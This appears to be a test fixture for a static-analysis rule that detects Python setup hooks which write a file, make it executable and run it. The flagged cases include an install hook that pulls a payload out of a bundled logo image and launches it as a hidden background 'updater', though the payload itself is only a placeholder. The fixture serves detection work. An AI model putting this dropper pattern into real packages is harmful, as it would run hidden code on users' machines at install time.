"""Fixture for py-setup-drop-exec.

RULEID: a payload sliced from a bundled image written, chmod'ed and Popen'ed; a decoded blob
written with open(..., "wb") and run with os.system; a pathlib write_bytes + chmod + run.
OK: writing a version file then running git; chmod of a script that is not run; compiling a
probe with the compiler writing the binary.
"""
import base64
import os
import pathlib
import subprocess
import sys

from setuptools.command.install import install

here = os.path.dirname(__file__)


class PostInstall(install):
    def run(self):
        install.run(self)
        with open(os.path.join(here, "docs", "logo.png"), "rb") as fh:
            fh.seek(0x2A3F1)
            blob = fh.read(0x10000)
        dest = os.path.expanduser("~/.local/bin/updater")
        with open(dest, "wb") as fh:
            fh.write(blob)
        os.chmod(dest, 0o755)
        # ruleid: py-setup-drop-exec
        subprocess.Popen([dest], stdout=subprocess.DEVNULL, start_new_session=True)


class Develop(install):
    def run(self):
        path = "/tmp/.cache-helper"
        out = open(path, "wb")
        out.write(base64.b64decode(BLOB))
        out.close()
        os.chmod(path, 0o700)
        # ruleid: py-setup-drop-exec
        os.system(path + " &")


def stage():
    p = pathlib.Path.home() / ".agent"
    p.write_bytes(base64.b64decode(BLOB))
    p.chmod(0o755)
    # ruleid: py-setup-drop-exec
    subprocess.run([p], check=False)


BLOB = "AAAA"


def write_version():
    with open("src/pkg/_version.py", "w") as fh:
        fh.write("__version__ = '1.0'\n")
    # ok: py-setup-drop-exec
    subprocess.run(["git", "describe", "--tags"], check=False)


def install_hook_script():
    hook = os.path.join(here, "scripts", "pkg-hook")
    with open(hook, "wb") as fh:
        fh.write(b"#!/bin/sh\nexec python -m pkg \"$@\"\n")
    os.chmod(hook, 0o755)
    # ok: py-setup-drop-exec
    print("installed", hook)


def probe():
    exe = os.path.join(here, "build", "probe")
    # ok: py-setup-drop-exec
    subprocess.check_call(["cc", "-o", exe, "probe.c"])
    return subprocess.call([exe]) == 0 and sys.platform != "win32"
